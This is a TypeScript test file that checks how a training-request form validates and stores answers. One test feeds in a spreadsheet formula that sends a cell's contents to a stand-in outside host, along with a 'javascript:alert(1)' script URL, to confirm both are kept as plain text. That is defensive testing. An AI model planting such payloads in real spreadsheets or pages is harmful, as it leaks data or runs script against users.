import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { Answers } from '../../../functions/pages/forms/answers.ts'
import { askForTraining } from '../../../functions/pages/forms/ask-for-training.ts'
import { cancelling } from '../../../functions/pages/forms/ask-to-change.ts'
import { questionsOf } from '../../../functions/pages/forms/form.ts'
import { formFacts, readRequest } from '../../../functions/pages/forms/read-request.ts'
import { conference, facts, firstAid, webinar } from './sample-answers.ts'

const required = questionsOf(askForTraining(formFacts(facts))).filter((question) => question.required)

test.for([
  ...required
    .filter(({ id }) => !/^(?:free|change|nearer)/.test(id))
    .map(({ id }) => ({ id, answers: conference })),
  { id: 'nearer', answers: firstAid },
  ...required.filter(({ id }) => id.startsWith('free')).map(({ id }) => ({ id, answers: webinar })),
  ...required
    .filter(({ id }) => id.startsWith('change'))
    .map(({ id }) => ({ id, answers: cancelling('R-0031') })),
])('an answer without “$id” is sent back for that alone', ({ id, answers }) => {
  const { [id]: _, ...rest } = answers

  const read = readRequest(rest, facts)

  expect(problemsOf(read)).toEqual([id])
})

test.for<{ about: string; answers: Answers; where: string[] }>([
  { about: 'an answer that the form does not offer', answers: { source: ['the moon'] }, where: ['source'] },
  {
    about: 'a tick that the form does not offer',
    answers: { children: ['all', 'mine'] },
    where: ['children'],
  },
  {
    about: 'two answers where one was asked for',
    answers: { idea: ['appraisal', 'other'] },
    where: ['idea'],
  },
  { about: 'a priority that is not on the plan', answers: { priority: ['7 Latin'] }, where: ['priority'] },
  { about: 'cover on a day that is not of it', answers: { coverDays: ['10 Dec'] }, where: ['coverDays'] },
  { about: 'cover without a day', answers: { coverDays: ['none'] }, where: ['coverDays'] },
  { about: 'a name nobody has', answers: { for: ['Nobody Known'] }, where: ['for'] },
  { about: 'VAT in per cent', answers: { vat: ['20%'] }, where: ['vat'] },
  { about: 'a start in the distant past', answers: { firstDay: ['2026-10-12'] }, where: ['firstDay'] },
  { about: 'an end more than two years ahead', answers: { lastDay: ['2028-11-13'] }, where: ['lastDay'] },
  { about: 'a book-by date without a year', answers: { bookBy: ['11-20'] }, where: ['bookBy'] },
  { about: 'a megabyte', answers: { help: ['a'.repeat(1_000_000)] }, where: ['help'] },
  { about: 'a megabyte for a price', answers: { price: ['1'.repeat(1_000_000)] }, where: ['price'] },
  { about: 'two hundred ticks', answers: { sharing: twoHundred() }, where: ['sharing'] },
  { about: 'the name of something in the program', answers: { source: ['constructor'] }, where: ['source'] },
  { about: 'a first question we do not know', answers: { start: ['Sing'] }, where: ['start'] },
])('$about is sent back', ({ answers, where }) => {
  const read = readRequest({ ...conference, ...answers }, facts)

  expect(problemsOf(read)).toEqual(where)
})

test('text of any kind is kept as text', () => {
  const title = '=IMPORTDATA("https://x.example.org/?"&B2) <b>{{x}}</b>'

  const read = readRequest({ ...conference, title: [title], contact: ['javascript:alert(1)'] }, facts)

  expect(read).toMatchObject({ asked: { title, contact: 'javascript:alert(1)' } })
})

test('whatever is typed is read or sent back, and never stops the reading', () => {
  const ids = questionsOf(askForTraining(formFacts(facts))).map(({ id }) => id)
  const words = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom(...'0123456789 .,-/£½&;\nfebdcamporhdy') }),
  )

  fc.assert(
    fc.property(
      fc.constantFrom(conference, webinar, cancelling('R-0031')),
      fc.constantFrom(...ids),
      words,
      (answers, id, typed) => {
        const read = readRequest({ ...answers, [id]: [typed] }, facts)

        expect(!('problems' in read) || read.problems.every(({ say }) => say.endsWith('.'))).toBe(true)
      },
    ),
    { numRuns: 500 },
  )
})

const problemsOf = (read: ReturnType<typeof readRequest>): readonly string[] =>
  'problems' in read ? read.problems.map(({ where }) => where) : []

function twoHundred(): string[] {
  return Array.from({ length: 200 }, (_, number) => `tick ${number}`)
}
